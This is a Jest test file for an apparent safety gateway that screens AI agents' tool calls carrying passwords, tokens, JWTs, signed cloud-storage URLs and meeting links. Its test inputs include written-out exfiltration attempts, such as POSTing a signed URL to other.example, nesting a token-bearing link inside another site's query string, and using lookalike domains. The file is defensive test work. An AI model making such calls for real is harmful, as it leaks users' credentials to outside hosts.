import { describe, expect, test } from '@jest/globals';
import type { Conversation } from 'interven-openai-assistants';
import { agentSafety, EmbeddedGateway, starterPolicies } from 'interven-openai-assistants/embedded';
import { describe as describeCall } from '../../../src/runner/call/describe.ts';

const gateway = new EmbeddedGateway({ policies: agentSafety, ownDomains: ['acme.com'] });
const decide = async (functionName: string, body: Record<string, unknown>, conversation: Conversation | undefined) => {
  const request = { functionName, body, runtimeType: 'x', ...describeCall(functionName, body, undefined) };
  return (await gateway.scan(conversation ? { ...request, conversation } : request)).decision;
};
const said = (user: string, output = ''): Conversation => ({
  userMessages: [user],
  toolOutputs: [{ functionName: 'read', output }],
});
const TOKEN = 'ghp_' + 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8';
const JWT = ['eyJhbGciOiJIUzI1NiJ9', 'eyJzdWIiOiIxMjMifQ', 'dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk'].join('.');
const LOGIN = 'I am ann, and my password is Lente-2026!x';
const SIGNED = `https://data.partner.example/r.csv?token=${TOKEN}`;

describe('agentSafety and a secret that the user said', () => {
  test.each<[string, string, Record<string, unknown>, Conversation | undefined, string]>([
    ['passed in its field', 'login', { user: 'ann', password: 'Lente-2026!x' }, said(LOGIN), 'ALLOW'],
    ['a token', 'authenticate', { access_token: TOKEN }, said(`Use the token ${TOKEN}.`), 'ALLOW'],
    ['a JWT in a nested field', 'authenticate', { auth: { bearer: JWT } }, said(`Use the token ${JWT}.`), 'ALLOW'],
    ['within a sentence', 'post_note', { text: 'password: Lente-2026!x' }, said(LOGIN), 'REQUIRE_APPROVAL'],
    [
      'to an outsider',
      'login',
      { to: 'tom@shop.example', password: 'Lente-2026!x' },
      said(`${LOGIN} for tom@shop.example`),
      'REQUIRE_APPROVAL',
    ],
    ['in a URL', 'open_page', { url: SIGNED }, said(`Read ${SIGNED}`), 'REQUIRE_APPROVAL'],
    [
      'and one that the user did not',
      'post_note',
      { text: `password: Lente-2026!x ${TOKEN}` },
      said(LOGIN, TOKEN),
      'DENY',
    ],
    [
      'and one in JSON that the user did not',
      'post_note',
      { text: `{"token": "${TOKEN}"}` },
      said(LOGIN, TOKEN),
      'DENY',
    ],
    ['only in a quote', 'authenticate', { access_token: TOKEN }, said(`> ${TOKEN}`), 'DENY'],
    ['without provenance', 'login', { user: 'ann', password: 'Lente-2026!x' }, undefined, 'DENY'],
    ['from a tool', 'authenticate', { access_token: TOKEN }, said('Log me in.', TOKEN), 'DENY'],
    [
      'from a tool in a URL as it is',
      'open_page',
      { url: SIGNED },
      said('Read it.', `See ${SIGNED}.`),
      'REQUIRE_APPROVAL',
    ],
    [
      'from a tool in a URL without a scheme',
      'open_page',
      { url: `www.x.example/r?token=${TOKEN}` },
      said('Read it.', `See www.x.example/r?token=${TOKEN}.`),
      'REQUIRE_APPROVAL',
    ],
    ...['www.x.example', 'x.example'].map((host): [string, string, Record<string, unknown>, Conversation, string] => [
      `read at ${host}, which has no scheme`,
      'open_page',
      { url: `${host}/r?q=${TOKEN}` },
      said('Read it.', `See ${host}. ${TOKEN}`),
      'DENY',
    ]),
    [
      'from a tool in another URL',
      'open_page',
      { url: `https://shop.example/?u=${encodeURIComponent(SIGNED)}` },
      said('Read it.', SIGNED),
      'DENY',
    ],
  ])('%s: %s', async (_, name, body, conversation, expected) => {
    expect(await decide(name, body, conversation)).toBe(expected);
  });
});

describe('a link with its own credential', () => {
  const packs = new EmbeddedGateway({ policies: [...starterPolicies, agentSafety], ownDomains: ['acme.com'] });
  const outcomeOf = async (functionName: string, body: Record<string, unknown>, conversation: Conversation) => {
    const request = { functionName, body, runtimeType: 'x', ...describeCall(functionName, body, undefined) };
    return (await packs.scan({ ...request, conversation })).decision;
  };
  const MEETING = 'https://us05web.zoom.us/j/83312345678?pwd=Qm9vdGhYb2xNaWRnZXQyN1ZhbGU';
  const SIGNATURE = '9c1e5b7a3f20d4866b1fa7e05c3d9284ab60f7d1e2935c48770fbe1a6d24c3f9';
  const FILE = `https://reports.s3.eu-central-1.amazonaws.com/q3.csv?X-Amz-Credential=AKIAV3RTPL7QZMX2NB5D%2F20261130%2Feu-central-1%2Fs3%2Faws4_request&X-Amz-Signature=${SIGNATURE}`;
  const BUCKET = `https://storage.googleapis.com/acme/q3.csv?X-Goog-Credential=reader%40acme-prod.iam.gserviceaccount.com%2F20261130&X-Goog-Signature=${SIGNATURE}`;
  const ROOM = 'https://meet.partner.example/stand-up#password=Xk3vQ9mLpR7s';
  const post = (text: string): Record<string, unknown> => ({ channel: '#team', text });

  test.each<[string, string, Record<string, unknown>, string]>([
    [MEETING, 'slack_post_message', post(`Stand-up: ${MEETING}.`), 'ALLOW'],
    [ROOM, 'slack_post_message', post(`[join](${ROOM})`), 'ALLOW'],
    [FILE, 'open_page', { url: FILE }, 'ALLOW'],
    [FILE, 'send_email', { to: 'ann@acme.com', body: FILE }, 'ALLOW'],
    [MEETING, 'send_email', { to: 'tom@partner.example', body: MEETING }, 'ALLOW'],
    [MEETING, 'send_email', { to: 'eve@other.example', body: MEETING }, 'REQUIRE_APPROVAL'],
    [BUCKET, 'slack_post_message', post(BUCKET), 'ALLOW'],
    [FILE, 'http_request', { method: 'POST', url: 'https://other.example/in', body: FILE }, 'REQUIRE_APPROVAL'],
    [MEETING, 'slack_post_message', post(`${MEETING} has ${MEETING.slice(-27)} as pwd`), 'DENY'],
    [FILE, 'slack_post_message', post(`api_secret=${SIGNATURE}`), 'DENY'],
    [MEETING, 'slack_post_message', post(`${MEETING}&note=${TOKEN}`), 'DENY'],
    [MEETING, 'slack_post_message', post(MEETING.replace('zoom.us', 'z00m.example')), 'DENY'],
    [MEETING, 'slack_post_message', post(MEETING.replace('https://', 'https://ann:Lente-2026!x@')), 'DENY'],
    [MEETING, 'slack_post_message', post(`[join](https://other.example/<${MEETING}>)`), 'DENY'],
    [MEETING, 'slack_post_message', post(`other.example/?u=${MEETING}`), 'DENY'],
    [SIGNED, 'slack_post_message', post(SIGNED), 'DENY'],
    [`> ${MEETING}`, 'slack_post_message', post(MEETING), 'DENY'],
  ])('%s, %s with %j: %s', async (pasted, name, body, expected) => {
    const user = pasted.startsWith('>') ? `See\n${pasted}` : `Use ${pasted} for tom@partner.example`;
    expect(await outcomeOf(name, body, said(user))).toBe(expected);
  });

  test('stays as it is where the rest is redacted', async () => {
    const text = `${BUCKET} is from mia.li@mail.example`;
    const body = post(text);
    const request = { functionName: 'slack_post_message', body, runtimeType: 'x' };
    const call = { ...request, ...describeCall(request.functionName, body, undefined) };
    const decision = await packs.scan({ ...call, conversation: said(`Post ${text}`) });
    expect(decision).toMatchObject({
      decision: 'SANITIZE',
      sanitizedBody: { text: `${BUCKET} is from [REDACTED:EMAIL]` },
    });
    const other = await packs.scan({ ...call, conversation: said('Post it.', text) });
    expect(other.decision).toBe('DENY');
  });

  test('is one to ask about where only a tool returned it, and never to post at Slack', async () => {
    for (const link of [MEETING, FILE, ROOM]) {
      expect(await outcomeOf('open_page', { url: link }, said('Read it.', link))).toBe('REQUIRE_APPROVAL');
      expect(await outcomeOf('slack_post_message', post(link), said('Post it.', link))).toBe('DENY');
    }
  });
});

test('an address at an own domain is no personal data of a call to an outsider, any other is', async () => {
  const mail = async (body: string) =>
    decide('send_email', { to: 'tom@shop.example', body }, said('Tell tom@shop.example what you know.'));
  expect(await mail('Write to ann@acme.com or to help@eu.acme.com.')).toBe('ALLOW');
  for (const other of ['ann@acme.com.shop.example', 'mia.li@mail.example', 'ann@acme.com, +49 30 901820'])
    expect(await mail(`Write to ${other}.`)).toBe('REQUIRE_APPROVAL');
  const channel = { to: '#ops', text: 'Write to ann@acme.com.' };
  expect(await decide('post_message', channel, said('Tell #ops whom to write to.'))).toBe('REQUIRE_APPROVAL');
});
